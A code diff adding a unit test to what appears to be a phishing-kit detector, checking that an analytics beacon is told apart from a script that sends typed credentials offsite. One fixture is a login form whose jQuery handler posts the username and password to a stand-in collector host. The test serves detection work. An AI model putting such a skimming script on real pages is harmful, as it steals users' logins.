@@ -769,3 +769,14 @@ KIT_NODE = """app.post('/login', async (req, res) => {
 )
 def test_server_code_keeping_passwords_as_typed(source: str, fires: int) -> None:
     assert f(source, url="")["credential.server_capture"] == fires
+
+
+def test_offsite_send_of_typed_fields_is_told_from_an_analytics_beacon():
+    beacon = """<script>navigator.sendBeacon('https://collect.stats.example.org/e',
+    JSON.stringify({p: location.pathname}));</script>"""
+    assert f(beacon)["credential.js_exfil"] == 1
+    assert f(beacon)["credential.js_exfil_fields"] == 0
+    kit = """<form id="l"><input id="u"><input type="password" id="p"></form><script>
+    $('#l').submit(function () { var u = $('#u').val(), p = $('#p').val();
+      $.post('https://collector.example.net/save.php', {u: u, p: p}); return false; });</script>"""
+    assert f(kit)["credential.js_exfil_fields"] == 1
